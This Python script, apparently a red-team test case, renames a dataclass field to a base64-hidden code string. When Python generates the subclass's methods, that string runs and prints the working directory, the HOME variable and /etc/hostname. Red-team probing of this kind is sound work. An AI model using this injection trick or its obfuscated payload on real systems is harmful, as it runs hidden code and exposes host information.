# family: red team, round 53a (operator.methodcaller called on the class: C.rename(field, v))
import base64
import dataclasses
import operator

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


class C:
    def rename(self, value):
        self.name = value


def main():
    first = dataclasses.fields(A)[0]
    operator.methodcaller("rename", first, base64.b64decode(CODE).decode())(C)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
